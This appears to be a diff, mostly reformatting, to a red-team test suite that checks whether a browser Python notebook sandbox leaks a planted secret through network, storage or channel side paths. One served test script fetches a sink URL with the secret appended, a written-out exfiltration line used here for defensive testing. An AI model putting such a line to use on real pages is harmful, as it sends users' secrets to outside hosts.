@@ -21,7 +21,10 @@ let server: StaticServer;
 let sink: Sink;
 
 function indent(code: string): string {
-  return code.split('\n').map((l) => `    ${l}`).join('\n');
+  return code
+    .split('\n')
+    .map((l) => `    ${l}`)
+    .join('\n');
 }
 
 function notebook(sinkUrl: string, appOrigin: string, payloads = PAYLOADS): string {
@@ -33,8 +36,19 @@ function notebook(sinkUrl: string, appOrigin: string, payloads = PAYLOADS): stri
     'SECRET = airlock.table("secret").column("value")[0]',
     'print("prelude ok", len(SECRET))',
   ].join('\n');
-  const cells = [prelude, ...payloads.map((p) => `try:\n${indent(p.code)}\n    print("RESULT ${p.id}: no error")\nexcept BaseException as e:\n    print("RESULT ${p.id}: " + type(e).__name__ + ": " + str(e)[:160])`)];
-  return JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells: cells.map((source) => ({ cell_type: 'code', source, metadata: {}, outputs: [], execution_count: null })) });
+  const cells = [
+    prelude,
+    ...payloads.map(
+      (p) =>
+        `try:\n${indent(p.code)}\n    print("RESULT ${p.id}: no error")\nexcept BaseException as e:\n    print("RESULT ${p.id}: " + type(e).__name__ + ": " + str(e)[:160])`,
+    ),
+  ];
+  return JSON.stringify({
+    nbformat: 4,
+    nbformat_minor: 5,
+    metadata: {},
+    cells: cells.map((source) => ({ cell_type: 'code', source, metadata: {}, outputs: [], execution_count: null })),
+  });
 }
 
 /** Installs the app-origin listeners that catch storage- and channel-based exfiltration. */
@@ -56,22 +70,29 @@ async function collect(page: Page, secret: string): Promise<string[]> {
     const root = (await navigator.storage.getDirectory()) as unknown as { keys(): AsyncIterable<string> };
     for await (const name of root.keys()) if (name.includes(secret)) found.push(`opfs:${name}`);
     const locks = await navigator.locks.query();
-    for (const l of [...(locks.held ?? []), ...(locks.pending ?? [])]) if (l.name?.includes(secret)) found.push(`web-locks:${l.name}`);
-    for (const m of (window as unknown as { __bc: string[] }).__bc) if (m.includes(secret)) found.push(`broadcastchannel:${m}`);
+    for (const l of [...(locks.held ?? []), ...(locks.pending ?? [])])
+      if (l.name?.includes(secret)) found.push(`web-locks:${l.name}`);
+    for (const m of (window as unknown as { __bc: string[] }).__bc)
+      if (m.includes(secret)) found.push(`broadcastchannel:${m}`);
     return found;
   }, secret);
 }
 
 function resultLines(logs: Array<{ text: string }>): Map<string, string> {
   const m = new Map<string, string>();
-  for (const l of logs) for (const line of l.text.split('\n')) {
-    const r = /^RESULT ([\w-]+): (.*)$/.exec(line);
-    if (r) m.set(r[1]!, r[2]!);
-  }
+  for (const l of logs)
+    for (const line of l.text.split('\n')) {
+      const r = /^RESULT ([\w-]+): (.*)$/.exec(line);
+      if (r) m.set(r[1]!, r[2]!);
+    }
   return m;
 }
 
-const secretTable = (secret: string) => ({ name: 'secret', rowCount: 1, columns: [{ name: 'value', type: 'string', values: [0], dictionary: [secret] }] });
+const secretTable = (secret: string) => ({
+  name: 'secret',
+  rowCount: 1,
+  columns: [{ name: 'value', type: 'string', values: [0], dictionary: [secret] }],
+});
 
 async function runInSandbox(tripwires: boolean, payloads: typeof PAYLOADS, snapshot = false) {
   const { page, context } = await openApp(browser, server);
@@ -82,8 +103,19 @@ async function runInSandbox(tripwires: boolean, payloads: typeof PAYLOADS, snaps
   const report = await page.evaluate(
     async ({ nb, table, tripwires }) => {
       const t = { ...table, columns: table.columns.map((c) => ({ ...c, values: new Int32Array(c.values) })) };
-      const r = await (window as any).airlock.run({ notebook: nb, tables: [t], tripwires, limits: { timeLimitMs: 120_000 } });
-      return { status: r.status, message: r.message, logs: r.logs, tripwires: r.tripwires, outputs: r.outputs.map((o: any) => o.path) };
+      const r = await (window as any).airlock.run({
+        notebook: nb,
+        tables: [t],
+        tripwires,
+        limits: { timeLimitMs: 120_000 },
+      });
+      return {
+        status: r.status,
+        message: r.message,
+        logs: r.logs,
+        tripwires: r.tripwires,
+        outputs: r.outputs.map((o: any) => o.path),
+      };
     },
     { nb, table: secretTable(SECRET), tripwires },
   );
@@ -101,9 +133,16 @@ async function runInControl() {
   const nb = notebook(sink.url, server.origin);
   const logs = await page.evaluate(
     async ({ nb, workerSource, table, version }) => {
-      const files = { pyodideMjs: 'pyodide.mjs', pyodideAsmMjs: 'pyodide.asm.mjs', pyodideAsmWasm: 'pyodide.asm.wasm', pythonStdlibZip: 'python_stdlib.zip', pyodideLockJson: 'pyodide-lock.json' };
+      const files = {
+        pyodideMjs: 'pyodide.mjs',
+        pyodideAsmMjs: 'pyodide.asm.mjs',
+        pyodideAsmWasm: 'pyodide.asm.wasm',
+        pythonStdlibZip: 'python_stdlib.zip',
+        pyodideLockJson: 'pyodide-lock.json',
+      };
       const assets: Record<string, ArrayBuffer> = {};
-      for (const [k, f] of Object.entries(files)) assets[k] = await (await fetch(`pyodide/${version}/${f}`)).arrayBuffer();
+      for (const [k, f] of Object.entries(files))
+        assets[k] = await (await fetch(`pyodide/${version}/${f}`)).arrayBuffer();
       const worker = new Worker(URL.createObjectURL(new Blob([workerSource], { type: 'text/javascript' })));
       const { port1, port2 } = new MessageChannel();
       worker.postMessage({ port: port2 }, [port2]);
@@ -124,7 +163,12 @@ async function runInControl() {
             else resolve(ev.data.value);
           };
           port1.addEventListener('message', l);
-          port1.postMessage({ id, type: 'APPLY', path: [method], argumentList: args.map((value) => ({ type: 'RAW', value })) });
+          port1.postMessage({
+            id,
+            type: 'APPLY',
+            path: [method],
+            argumentList: args.map((value) => ({ type: 'RAW', value })),
+          });
         });
       await call('boot', assets, { tripwires: false });
       const t = { ...table, columns: table.columns.map((c) => ({ ...c, values: new Int32Array(c.values) })) };
@@ -133,7 +177,12 @@ async function runInControl() {
       for (let i = 0; i < cells.length; i++) await call('runCell', i, cells[i]!.source);
       return logs;
     },
-    { nb, workerSource, table: secretTable(SECRET), version: (await import('pyodide/package.json', { with: { type: 'json' } })).default.version },
+    {
+      nb,
+      workerSource,
+      table: secretTable(SECRET),
+      version: (await import('pyodide/package.json', { with: { type: 'json' } })).default.version,
+    },
   );
   await page.waitForTimeout(1500);
   const found = await collect(page, SECRET);
@@ -149,7 +198,10 @@ beforeAll(async () => {
     type: 'text/javascript',
     body: `fetch(${JSON.stringify(`${sink.url}/worker-url?id=worker-url&s=`)} + new URLSearchParams(location.search).get('s'))`,
   });
-  server.routes.set('/some/sub/path/control.html', { type: 'text/html', body: '<!doctype html><meta charset="utf-8"><title>unprotected control</title>' });
+  server.routes.set('/some/sub/path/control.html', {
+    type: 'text/html',
+    body: '<!doctype html><meta charset="utf-8"><title>unprotected control</title>',
+  });
 });
 
 afterAll(async () => {
@@ -178,13 +230,24 @@ describe('red team', () => {
             sink.hits.some((h) => h.data === 'UPGRADE /')
           : evidence.some((e) => e.includes(`id=${p.id}`) || e.includes(`exfil-${p.id}-`));
     const missed = PAYLOADS.filter((p) => p.control && !hit(p));
-    const report = PAYLOADS.map((p) => `${p.control ? 'C' : ' '} ${p.id}: ${results.get(p.id) ?? '(no result line)'}`).join('\n');
-    expect(missed.map((p) => p.id), `control did not leak for these payloads:\n${report}`).toEqual([]);
+    const report = PAYLOADS.map(
+      (p) => `${p.control ? 'C' : ' '} ${p.id}: ${results.get(p.id) ?? '(no result line)'}`,
+    ).join('\n');
+    expect(
+      missed.map((p) => p.id),
+      `control did not leak for these payloads:\n${report}`,
+    ).toEqual([]);
     expect(sink.hits.every((h) => h.data.includes(SECRET) || h.kind === 'tcp' || !h.data.includes('id='))).toBe(true);
   });
 
-  for (const [tripwires, snapshot] of [[true, false], [false, false], [true, true]] as const) {
-    const label = (tripwires ? 'with every layer' : 'with tripwires off (walls only)') + (snapshot ? ', booted from the start-up snapshot' : '');
+  for (const [tripwires, snapshot] of [
+    [true, false],
+    [false, false],
+    [true, true],
+  ] as const) {
+    const label =
+      (tripwires ? 'with every layer' : 'with tripwires off (walls only)') +
+      (snapshot ? ', booted from the start-up snapshot' : '');
     test(`the sandbox ${label} leaks nothing`, async () => {
       sink.hits.length = 0;
       const main = PAYLOADS.filter((p) => !p.isolated);
@@ -199,7 +262,8 @@ describe('red team', () => {
       if (tripwires) {
         const names = new Set(report.tripwires.map((t: { name: string }) => t.name));
         // The tripwires saw the attempts: at least the main network entry points.
-        for (const n of ['js.fetch', 'js.XMLHttpRequest', 'js.WebSocket', 'js.Worker']) expect(names, [...names].join(', ')).toContain(n);
+        for (const n of ['js.fetch', 'js.XMLHttpRequest', 'js.WebSocket', 'js.Worker'])
+          expect(names, [...names].join(', ')).toContain(n);
       }
     });
 
